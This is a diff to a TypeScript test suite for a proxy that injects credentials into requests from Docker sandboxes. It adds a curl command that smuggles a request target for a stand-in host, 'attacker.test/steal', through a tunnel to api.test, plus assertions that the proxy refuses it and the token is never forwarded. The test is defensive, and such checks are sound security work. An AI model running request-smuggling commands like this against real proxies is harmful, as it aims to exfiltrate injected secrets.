@@ -84,6 +84,9 @@ describe.skipIf(reason !== undefined)('credentials in network sandboxes (docker)
       // HTTPS to the host with a rule: terminated by the proxy, trusted through SSL_CERT_FILE.
       `curl -sS -v https://api.test:${httpsPort}/secure 2>/workspace/https.log`,
       `curl -sS http://api.test:${httpPort}/plain`,
+      // Inside the terminated tunnel to api.test, a request line naming another host: the
+      // proxy answers it (421) and the server never sees it.
+      `curl -sS -o /dev/null -w 'steal=%{http_code}\\n' --request-target https://attacker.test/steal https://api.test:${httpsPort}/`,
       // HTTPS to a host without a rule: the real host's certificate, which this sandbox does
       // not trust (-k), seen through the tunnel as it is.
       `curl -sS -k -v https://plain.test:${httpsPort}/tunnel 2>/workspace/tunnel.log`,
@@ -134,6 +137,8 @@ describe.skipIf(reason !== undefined)('credentials in network sandboxes (docker)
             header: 'Authorization',
             value: 'Bearer ${secret:api_token}',
           },
+          // api.test's HTTPS API on 443: none of these requests is to it.
+          { host: 'api.test', header: 'X-Https-Only', value: '${secret:api_token}' },
         ],
         secrets: { key: randomBytes(32).toString('hex') },
       },
@@ -163,12 +168,16 @@ describe.skipIf(reason !== undefined)('credentials in network sandboxes (docker)
     expect(outcome.result).toContain('reached /secure');
     expect(outcome.result).toContain('reached /plain');
     expect(outcome.result).toContain('reached /tunnel');
+    expect(outcome.result).toContain('steal=421');
+    expect(seen.map((s) => s.path)).not.toContain('https://attacker.test/steal');
+    expect(seen.map((s) => s.path)).not.toContain('/steal');
     expect(outcome.result).toContain('ca=/etc/toolgate/ca-bundle.pem');
 
     const by = (p: string) => seen.find((s) => s.path === p)!.headers;
     expect(by('/secure').authorization).toBe(`Bearer ${VALUE}`);
     expect(by('/plain').authorization).toBe(`Bearer ${VALUE}`);
     expect(by('/tunnel').authorization).toBeUndefined();
+    expect(seen.filter((s) => s.headers['x-https-only'] !== undefined)).toEqual([]);
 
     // Inside the sandbox: the certificate curl was shown for api.test is the proxy's CA's; for
     // plain.test the real host's.
